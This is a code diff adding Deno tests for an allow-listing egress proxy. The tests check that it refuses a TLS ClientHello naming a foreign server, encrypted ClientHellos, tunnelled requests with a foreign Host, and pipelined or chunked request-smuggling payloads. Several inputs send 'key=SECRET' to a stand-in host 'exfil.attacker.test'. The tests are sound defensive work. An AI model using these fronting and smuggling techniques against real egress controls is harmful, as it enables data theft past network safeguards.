@@ -483,3 +483,156 @@ Deno.test("startProxy() closes a connection idle before its request head, and an
     await accepting;
   }
 });
+
+/** A TLS ClientHello (one record) naming `serverName` (none: null), with `extra` extensions. */
+function clientHello(serverName: string | null, extra: [number, number[]][] = []): Uint8Array {
+  const u16 = (n: number) => [(n >> 8) & 255, n & 255];
+  const extensions: number[] = [];
+  const extension = (type: number, data: number[]) =>
+    extensions.push(...u16(type), ...u16(data.length), ...data);
+  if (serverName !== null) {
+    const name = [...new TextEncoder().encode(serverName)];
+    const entry = [0, ...u16(name.length), ...name];
+    extension(0, [...u16(entry.length), ...entry]);
+  }
+  for (const [type, data] of extra) extension(type, data);
+  const body = [
+    3,
+    3,
+    ...new Array(32).fill(7),
+    0, // session id
+    ...u16(2),
+    0x13,
+    0x01, // one cipher suite
+    1,
+    0, // compression: null
+    ...u16(extensions.length),
+    ...extensions,
+  ];
+  const handshake = [1, 0, ...u16(body.length), ...body];
+  return Uint8Array.from([0x16, 3, 1, ...u16(handshake.length), ...handshake]);
+}
+
+/** Opens a tunnel, sends `bytes` through it, and returns the proxy's answers until it closes. */
+async function throughTunnel(port: number, target: string, bytes: Uint8Array): Promise<string> {
+  const conn = await Deno.connect({ hostname: "127.0.0.1", port });
+  const timer = setTimeout(() => conn.close(), 3000);
+  try {
+    await conn.write(new TextEncoder().encode(`CONNECT ${target} HTTP/1.1\r\n\r\n`));
+    const buffer = new Uint8Array(16 * 1024);
+    const first = await conn.read(buffer);
+    let answer = first === null ? "" : new TextDecoder().decode(buffer.subarray(0, first));
+    await conn.write(bytes);
+    while (true) {
+      const n = await conn.read(buffer).catch(() => null);
+      if (n === null) break;
+      answer += new TextDecoder().decode(buffer.subarray(0, n));
+    }
+    return answer;
+  } finally {
+    clearTimeout(timer);
+    try {
+      conn.close();
+    } catch {
+      // closed by the timer or the proxy
+    }
+  }
+}
+
+Deno.test("startProxy() relays nothing that names another site than the one granted: TLS server name, ECH, a tunnelled Host, a pipelined request", async () => {
+  // A front end shared by many sites, routing by TLS server name (port 443) or Host (port 80).
+  const seen: string[] = [];
+  const tls = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+  const accepting = (async () => {
+    for await (const conn of tls) {
+      const buffer = new Uint8Array(8192);
+      const n = await conn.read(buffer).catch(() => null);
+      if (n) seen.push("tls " + new TextDecoder("latin1").decode(buffer.subarray(0, n)));
+      conn.close();
+    }
+  })();
+  const http = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
+    seen.push(`http ${request.headers.get("host")} ${new URL(request.url).pathname}`);
+    return new Response("served\n");
+  });
+  const connect: ProxyConnect = (host, port) => {
+    assert.equal(host, "api.example.test");
+    return Deno.connect({
+      hostname: "127.0.0.1",
+      port: port === 443 ? (tls.addr as Deno.NetAddr).port : http.addr.port,
+    });
+  };
+  const proxy = startProxy({ port: 0, allow: ["api.example.test"], connect });
+  const port = (proxy.address as Deno.NetAddr).port;
+  const saw = (what: string) => seen.some((line) => line.includes(what));
+  try {
+    // TLS naming another site at the same address: nothing goes up.
+    await throughTunnel(port, "api.example.test:443", clientHello("exfil.attacker.test"));
+    assert.ok(!saw("exfil.attacker.test"), `relayed: ${seen}`);
+    assert.match(proxy.log.at(-1)?.reason ?? "", /names "exfil\.attacker\.test"/);
+    assert.equal(proxy.log.at(-1)?.allowed, false);
+    // An encrypted ClientHello hides the name it asks for: refused even with the granted outer one.
+    await throughTunnel(
+      port,
+      "api.example.test:443",
+      clientHello("api.example.test", [[0xfe0d, [0, 1, 2]]]),
+    );
+    assert.equal(seen.length, 0, `relayed: ${seen}`);
+    assert.match(proxy.log.at(-1)?.reason ?? "", /ECH/);
+    // No name at all, to a name: refused.
+    await throughTunnel(port, "api.example.test:443", clientHello(null));
+    assert.equal(seen.length, 0, `relayed: ${seen}`);
+    // The granted name (any case, a trailing dot) goes up.
+    await throughTunnel(port, "api.example.test:443", clientHello("API.example.test."));
+    await waitFor(() => saw("tls "));
+    assert.ok(saw("API.example.test"), `not relayed: ${seen}`);
+
+    // A plain request in a tunnel names its site by Host: only the granted one.
+    const foreign = await throughTunnel(
+      port,
+      "api.example.test:80",
+      new TextEncoder().encode(
+        "GET /exfil?key=SECRET HTTP/1.1\r\nHost: exfil.attacker.test\r\nConnection: close\r\n\r\n",
+      ),
+    );
+    assert.match(foreign, /403 Forbidden/);
+    assert.ok(!saw("/exfil"), `relayed: ${seen}`);
+    // One request per tunnel: a second one after it never goes up.
+    const tunnelled = await throughTunnel(
+      port,
+      "api.example.test:80",
+      new TextEncoder().encode(
+        "GET /ok HTTP/1.1\r\nHost: api.example.test\r\n\r\n" +
+          "GET /second HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n",
+      ),
+    );
+    assert.match(tunnelled, /served/);
+    assert.ok(saw("http api.example.test /ok"), `not relayed: ${seen}`);
+
+    // An absolute-URI request: its body as long as it says, nothing pipelined after it.
+    const piped = await rawExchange(
+      port,
+      "POST http://api.example.test/post HTTP/1.1\r\nContent-Length: 4\r\n\r\nbody" +
+        "GET /pipelined HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n",
+    );
+    assert.match(piped, /served/);
+    const chunked = await rawExchange(
+      port,
+      "POST http://api.example.test/post HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n" +
+        "0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n",
+    );
+    assert.match(chunked, /^HTTP\/1\.1 400/);
+    await new Promise((r) => setTimeout(r, 100));
+    assert.ok(!saw("exfil.attacker.test"), `relayed: ${seen}`);
+    assert.ok(!saw("/second") && !saw("/pipelined") && !saw("/smuggled"), `relayed: ${seen}`);
+  } finally {
+    await proxy.close();
+    await http.shutdown();
+    tls.close();
+    await accepting;
+  }
+});
+
+async function waitFor(done: () => boolean): Promise<void> {
+  for (let i = 0; i < 50 && !done(); i++) await new Promise((r) => setTimeout(r, 20));
+}
